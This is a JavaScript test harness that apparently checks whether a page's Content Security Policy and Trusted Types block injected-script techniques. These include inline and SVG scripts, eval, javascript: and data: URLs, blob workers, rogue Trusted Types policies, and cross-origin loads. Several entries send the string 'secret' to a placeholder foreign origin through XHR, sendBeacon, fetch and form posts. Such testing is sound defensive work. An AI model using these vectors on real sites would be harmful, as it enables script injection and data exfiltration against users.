// What somebody would try who got a script into the page: each attack is one way to run text as
// code, to have something of another site, or to tell something to it. An attack that succeeds
// writes its name to `spoils`; one that is refused is heard of by the browser's own report
// (securitypolicyviolation), by an exception, or by an error event.
//
// `attack(name, foreign)` carries one out and tells how it was refused: null if it was not.
"use strict";

window.spoils = [];
window.spoil = (name) => window.spoils.push(name);

const PATIENCE = 5000; // ms, for a refusal that never comes

const element = (tag, attributes = {}, text = "") => {
  const made = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
  if (text) made.append(text);
  return made;
};
const put = (made, parent = document.body) => {
  parent.append(made);
  return made;
};
// An element that says by events whether it got what it asked for.
const loaded = (made) =>
  new Promise((resolve, reject) => {
    for (const kind of ["load", "loadeddata", "loadedmetadata"]) made.addEventListener(kind, resolve);
    made.addEventListener("error", () => reject(new Error(`${made.localName} error event`)));
    put(made);
  });
const blob = (text, type = "text/javascript") => URL.createObjectURL(new Blob([text], { type }));
const dataUrl = (text) => `data:text/javascript,${encodeURIComponent(text)}`;

// What a worker from a blob may do: its code posts "refused …" or what it got.
const fromWorker = (code) =>
  new Promise((resolve, reject) => {
    const worker = new Worker(blob(`(async () => { ${code} })().then(
      (value) => postMessage(["got", String(value)]), (error) => postMessage(["refused", error.name]));`));
    worker.onmessage = ({ data: [kind, text] }) => {
      worker.terminate();
      if (kind === "got") resolve(text);
      else reject(new Error(text));
    };
    worker.onerror = (event) => {
      event.preventDefault();
      reject(new Error("worker error event"));
    };
  });

// name: (code, foreign) => …; `code` is a text that would be a success if it ran.
const ATTACKS = {
  "inline script": (code) => {
    put(element("script", {}, code));
    if (!spoils.length) throw new Error("it did not run"); // not every engine reports it
  },
  "inline handler": (code) => put(element("button", { onclick: code })).click(),
  "handler in markup": (code) => {
    put(element("div")).innerHTML = `<img src="data:,x" onerror="${code.replaceAll('"', "'")}">`;
  },
  "script in an SVG": (code) => {
    const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
    const script = document.createElementNS("http://www.w3.org/2000/svg", "script");
    script.append(code);
    svg.append(script);
    put(svg);
    if (!spoils.length) throw new Error("it did not run");
  },
  eval: (code) => window.eval(code),
  "new Function": (code) => new Function(code)(),
  "setTimeout of text": (code) => {
    // Some engines throw, some report, and do nothing.
    if (!setTimeout(code)) throw new Error("no timer");
  },
  "javascript: link": (code) => put(element("a", { href: `javascript:${code}` })).click(),
  "javascript: frame": (code) => put(element("iframe", { src: `javascript:parent.${code}` })),
  "data: script": (code) => loaded(element("script", { src: dataUrl(code) })),
  "blob: script": (code) => loaded(element("script", { src: blob(code) })),
  "data: module": (code) => import(dataUrl(code)),
  "script of another site": (_, foreign) => loaded(element("script", { src: `${foreign}a.js` })),
  "module of another site": (_, foreign) => import(`${foreign}b.js`),
  "worker from data:": (code) =>
    new Promise((resolve, reject) => {
      const worker = new Worker(dataUrl("postMessage(1)"));
      worker.onmessage = () => resolve(window.eval(code));
      worker.onerror = (event) => {
        event.preventDefault();
        reject(new Error("worker error event"));
      };
    }),
  "worker of another site": (_, foreign) =>
    new Promise((_, reject) => {
      const worker = new Worker(`${foreign}worker.js`);
      worker.onerror = (event) => {
        event.preventDefault();
        reject(new Error("worker error event"));
      };
    }),
  "eval in a blob's worker": () => fromWorker('return eval("1")'),
  "fetch in a blob's worker": (_, foreign) => fromWorker(`return fetch("${foreign}worker-fetch")`),
  "importScripts in a blob's worker": (_, foreign) => fromWorker(`importScripts("${foreign}import.js")`),
  "another Trusted Types policy": () => {
    if (!window.trustedTypes) throw new Error("unknown here");
    return window.trustedTypes.createPolicy("evil", { createScript: (text) => text });
  },
  "another default policy": () => {
    if (!window.trustedTypes) throw new Error("unknown here");
    return window.trustedTypes.createPolicy("default", { createScript: (text) => text });
  },
  fetch: (_, foreign) => fetch(`${foreign}fetch`),
  "fetch that outlives the page": (_, foreign) => fetch(`${foreign}keep`, { keepalive: true, mode: "no-cors" }),
  XMLHttpRequest: (_, foreign) =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.open("POST", `${foreign}xhr`);
      request.onload = resolve;
      request.onerror = () => reject(new Error("request error event"));
      request.send("secret");
    }),
  beacon: (_, foreign) => {
    if (!navigator.sendBeacon(`${foreign}beacon`, "secret")) throw new Error("not sent");
  },
  WebSocket: (_, foreign) =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(`${foreign.replace("http", "ws")}socket`);
      socket.onopen = resolve;
      socket.onerror = () => reject(new Error("socket error event"));
    }),
  EventSource: (_, foreign) =>
    new Promise((resolve, reject) => {
      const source = new EventSource(`${foreign}events`);
      source.onopen = resolve;
      source.onerror = () => {
        source.close();
        reject(new Error("source error event"));
      };
    }),
  "image of another site": (_, foreign) => loaded(element("img", { src: `${foreign}pixel.png?secret` })),
  "data: image": () => loaded(element("img", { src: "data:image/gif;base64,R0lGODlhAQABAAAAACw=" })),
  "sound of another site": (_, foreign) => loaded(element("audio", { src: `${foreign}a.wav`, preload: "auto" })),
  "font of another site": (_, foreign) => new FontFace("evil", `url(${foreign}a.woff2)`).load(),
  "style sheet of another site": (_, foreign) =>
    loaded(element("link", { rel: "stylesheet", href: `${foreign}a.css?secret` })),
  "inline style sheet": (code) => {
    put(element("style", {}, "body { --evil: 1 }"), document.head);
    if (getComputedStyle(document.body).getPropertyValue("--evil")) window.eval(code);
  },
  "style attribute": () => {
    const made = put(element("p", { style: "--evil: 1" }));
    if (getComputedStyle(made).getPropertyValue("--evil")) window.spoil("style attribute");
  },
  "form to another site": (_, foreign) => {
    const form = put(element("form", { action: `${foreign}form`, method: "post" }));
    form.append(element("input", { name: "secret", value: "secret" }));
    form.submit();
  },
  "base of another site": (_, foreign) => {
    put(element("base", { href: foreign }), document.head);
    if (document.baseURI.startsWith(foreign)) window.spoil("base of another site");
  },
  "frame of another site": (_, foreign) => put(element("iframe", { src: `${foreign}frame` })),
  "data: frame": () => put(element("iframe", { src: "data:text/html,<p>Pay here" })),
  "script in a frame's own text": (code) =>
    new Promise((resolve, reject) => {
      const frame = element("iframe");
      frame.srcdoc = `<script>parent.${code}</${"script"}>`;
      frame.onload = () => (window.spoils.length ? resolve() : reject(new Error("it did not run")));
      put(frame);
    }),
  object: (_, foreign) => put(element("object", { data: `${foreign}object`, type: "text/html" })),
  embed: (_, foreign) => put(element("embed", { src: `${foreign}embed`, type: "text/html" })),
};

const after = (time) => new Promise((resolve) => setTimeout(resolve, time, null));

window.attack = async (name, foreign) => {
  window.spoils.length = 0;
  // On from a task of the page's own: what a driver calls itself, Chromium lets use eval.
  await after(0);
  let heard;
  const report = new Promise((resolve) => {
    heard = (event) => resolve(event.effectiveDirective);
    document.addEventListener("securitypolicyviolation", heard);
  });
  const code = `spoil(${JSON.stringify(name)})`;
  // An attack that comes to its end has not been refused, but a report may be on its way.
  const outcome = (async () => ATTACKS[name](code, foreign))().then(
    () => new Promise(() => {}),
    (error) => (error.message === "unknown here" ? "unknown here" : error.name === "Error" ? error.message : error.name),
  );
  const refused = await Promise.race([report, outcome, after(PATIENCE)]);
  document.removeEventListener("securitypolicyviolation", heard);
  return { refused, spoils: [...window.spoils] };
};

window.attacks = Object.keys(ATTACKS);
